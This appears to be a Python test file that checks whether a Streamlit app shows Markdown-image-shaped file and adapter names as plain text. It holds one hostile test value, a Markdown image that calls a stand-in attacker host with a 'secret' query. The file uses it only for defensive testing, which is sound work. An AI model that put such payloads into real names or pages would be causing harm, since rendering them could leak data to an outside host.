"""Words from users and bundles are shown literally wherever Streamlit renders Markdown: a file or
adapter named like a Markdown image never loads an address in the reader's browser."""

from __future__ import annotations

import re

from core.settings import load_settings
from tests.pages.test_knowledge import create, upload
from tests.training import trained

HOSTILE = "![x](https:evil.example?q=secret)"  # no "/": it survives as a file name
# An image or link that Markdown would act on: "![" or "](" not escaped by a backslash.
ACTIVE = re.compile(r"(?<!\\)!(?<!\\)\[|(?<!\\)\]\(")


def rendered(at) -> list[str]:  # type: ignore[no-untyped-def]
    """Every string of the page that Streamlit renders as Markdown: bodies, labels, captions,
    alerts, toasts, table cells."""
    found: list[str] = []

    def walk(node) -> None:  # type: ignore[no-untyped-def]
        proto = getattr(node, "proto", None)
        for field in ("body", "label", "value", "help", "text", "caption"):
            value = getattr(proto, field, None) if proto is not None else None
            if isinstance(value, str) and value:
                found.append(value)
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    found += [str(cell) for table in at.table for cell in table.value.to_numpy().ravel()]
    return found


def test_a_hostile_file_name_is_shown_literally_on_the_knowledge_page(
    open_page, fake_search
) -> None:
    at = create(open_page("views/knowledge.py"), "Harbor")
    upload(at, (f"{HOSTILE}.txt", b"The release code is BLUE-HARBOR-42."))
    assert not at.exception
    strings = rendered(at)
    assert any("evil" in s for s in strings)  # the name is shown...
    assert [s for s in strings if "evil" in s and ACTIVE.search(s)] == []  # ...as text


def test_a_hostile_adapter_name_is_shown_literally_on_the_fine_tune_page(open_page) -> None:
    trained(load_settings(), HOSTILE)
    at = open_page("views/finetune.py")
    assert not at.exception
    strings = rendered(at)
    assert any("evil" in s for s in strings)
    assert [s for s in strings if "evil" in s and ACTIVE.search(s)] == []
